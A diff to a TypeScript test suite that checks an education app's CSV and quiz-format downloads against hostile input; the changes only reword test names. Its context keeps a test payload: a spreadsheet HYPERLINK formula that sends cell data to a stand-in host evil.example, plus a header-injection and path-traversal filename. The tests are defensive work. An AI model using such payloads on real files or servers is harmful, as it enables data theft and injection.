@@ -16,7 +16,7 @@ import { until } from '../testing/until.ts';
 const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"x")\r\nX-Evil: 1; filename="../../a.exe"';
 const runs = /^\s*[=+\-@＝＋－＠\t\r]/u;
 
-describe('downloads of what somebody hostile has written', () => {
+describe('downloads of text by somebody hostile', () => {
   let app: TestApp;
   let cookie: string;
   let paths: Record<string, string>;
@@ -85,7 +85,7 @@ describe('downloads of what somebody hostile has written', () => {
   }
 
   it.each(['responses', 'results', 'markbook', 'assessments', 'reports', 'questions'])(
-    'the CSV file of %s has no cell that a spreadsheet runs',
+    'the CSV file of %s has no cell that a spreadsheet would run',
     async (name) => {
       const { bytes } = await download(name, 'csv');
       const rows = parse(Buffer.from(bytes), { bom: true, relax_column_count: true });
@@ -118,7 +118,7 @@ describe('downloads of what somebody hostile has written', () => {
     ['questions', 'gift'],
     ['questions', 'moodle-xml'],
     ['evidence', ''],
-  ])('%s as %s is called by a name that is no path and adds no header', async (name, format) => {
+  ])('%s as %s has a name that is not a path and adds no header', async (name, format) => {
     const { headers } = await download(name, format);
     const called = decodeURIComponent(headers.get('content-disposition') ?? '');
     expect(called).toMatch(/filename/);
